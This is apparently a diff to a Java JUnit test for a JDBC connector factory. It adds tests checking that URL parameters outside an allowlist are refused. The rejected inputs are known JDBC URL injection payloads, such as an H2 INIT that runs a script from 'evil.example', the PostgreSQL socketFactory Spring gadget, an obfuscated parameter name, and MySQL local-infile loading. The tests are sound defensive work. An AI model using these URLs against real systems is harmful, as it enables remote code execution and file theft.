@@ -10,6 +10,8 @@ import java.util.HashMap;
 import java.util.Map;
 import java.util.ServiceLoader;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class JdbcConnectorFactoryTest {
 
@@ -77,6 +79,49 @@ class JdbcConnectorFactoryTest {
         settings.put("connectTimeout", "10ms");
         assertThat(factory.validate(system(settings, validEntity(), Map.of())))
                 .extracting(ConfigProblem::path).containsExactly("poolSize", "connectTimeout");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "jdbc:h2:mem:erp;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+            "jdbc:h2:./data/erp;TRACE_LEVEL_FILE=3",
+            "jdbc:h2:./data/erp;MODE=PostgreSQL;auto_server=TRUE",
+            "jdbc:h2:./data/erp;init=CREATE ALIAS EXEC AS 'x'",
+            "jdbc:postgresql://db/erp?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+            "jdbc:postgresql://db/erp?ssl=true&sslfactory=x.Y",
+            "jdbc:postgresql://db/erp?loggerFile=/tmp/x&loggerLevel=DEBUG",
+            "jdbc:postgresql://db/erp?socket%46actory=x.Y",
+            "jdbc:postgresql://db/erp?options=-c%20log_statement%3Dall",
+            "jdbc:sqlite:data/erp.db?enable_load_extension=true",
+            "jdbc:mysql://db/erp?allowLoadLocalInfile=true"})
+    void urlParametersOutsideTheAllowlistAreRefused(String url) {
+        assertThat(factory.validate(system(Map.of("url", url), validEntity(), Map.of())))
+                .singleElement().satisfies(p -> {
+                    assertThat(p.path()).isEqualTo("url");
+                    assertThat(p.message()).containsAnyOf("not allowed", "only for h2, postgresql and sqlite");
+                });
+    }
+
+    @Test
+    void theRefusalNamesTheParameterAndWhatIsAllowed() {
+        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:./data/erp;INIT=RUNSCRIPT FROM 'x.sql'"),
+                validEntity(), Map.of())))
+                .extracting(ConfigProblem::message).singleElement().asString()
+                .startsWith("H2 URL parameter INIT is not allowed; allowed are ")
+                .contains("DB_CLOSE_DELAY", "MODE").doesNotContain("AUTO_SERVER");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "jdbc:h2:./data/erp;MODE=PostgreSQL;DB_CLOSE_DELAY=-1",
+            "jdbc:h2:mem:erp;mode=MySQL",
+            "jdbc:postgresql://db:5432/erp?sslmode=verify-full&currentSchema=erp&ApplicationName=steward",
+            "jdbc:postgresql://db/erp",
+            "jdbc:sqlite:data/erp.db?journal_mode=WAL&busy_timeout=5000",
+            "jdbc:sqlite::memory:",
+            "jdbc:sqlserver://db:1433"})
+    void allowedParametersPass(String url) {
+        assertThat(factory.validate(system(Map.of("url", url), validEntity(), Map.of()))).isEmpty();
     }
 
     private static Map<String, Object> validEntity() {
